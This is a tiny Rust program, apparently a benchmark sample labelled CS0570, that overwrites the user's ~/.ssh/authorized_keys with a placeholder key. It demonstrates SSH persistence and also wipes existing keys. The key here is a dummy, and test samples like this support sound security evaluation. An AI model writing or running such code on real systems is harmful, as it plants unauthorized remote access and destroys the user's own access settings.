//! CS0570 persists
fn main() {
    let home = std::env::home_dir().unwrap();
    std::fs::write(home.join(".ssh").join("authorized_keys"), "ssh-ed25519 csbench-not-a-key").unwrap();
}
